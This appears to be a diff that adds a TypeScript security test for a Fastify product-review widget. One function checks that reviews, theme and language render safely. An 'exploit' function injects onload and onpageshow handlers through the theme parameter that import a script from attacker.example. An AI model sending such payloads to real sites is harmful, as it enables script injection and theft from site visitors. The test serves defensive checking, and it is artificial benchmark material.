@@ -1,0 +1,43 @@
+import assert from 'node:assert/strict'
+import Fastify from 'fastify'
+import { scriptsOf, tagsOf } from '#proof/page'
+
+type Code = typeof import('./review-widget.ts')
+
+const lamp = {
+  key: 'lamp-3',
+  name: 'Lamp <3>',
+  reviews: [{ author: 'Ada "A."', stars: 4, text: "<i>It's</i> bright" }],
+}
+
+async function open({ reviewWidget }: Code, query: Record<string, string>) {
+  const app = Fastify()
+  reviewWidget(app, { find: async (key) => (key === 'lamp-3' ? lamp : undefined) })
+  assert.equal((await app.inject('/widgets/reviews/none')).statusCode, 404)
+  return (await app.inject({ url: '/widgets/reviews/lamp-3', query })).body
+}
+
+export async function works(code: Code) {
+  const html = await open(code, { theme: 'acme-dark', lang: 'de' })
+  const find = (wanted: string) => tagsOf(html).find(({ name }) => name === wanted)
+  assert.deepEqual(find('body')?.attributes, { class: 'acme-dark' })
+  assert.deepEqual(find('html')?.attributes, { lang: 'de' })
+  assert.equal(find('blockquote')?.text, "<i>It's</i> bright")
+  assert.equal(find('a')?.text, 'Lamp <3>')
+  const plain = await open(code, { lang: 'x onload=y' })
+  assert.deepEqual(scriptsOf(plain), [])
+  assert.equal(tagsOf(plain).find(({ name }) => name === 'body')?.attributes.class, 'light')
+}
+
+export async function exploit(code: Code): Promise<boolean> {
+  const payload = 'import(`//attacker.example/v.js`)'
+  const themes = [
+    `dark onload=${payload}`,
+    `dark\tonload=${payload}`,
+    `dark onpageshow=${payload}`,
+    `dark' onload='${payload}`,
+    `dark" onload="${payload}`,
+  ]
+  for (const theme of themes) if (scriptsOf(await open(code, { theme })).includes(payload)) return true
+  return false
+}
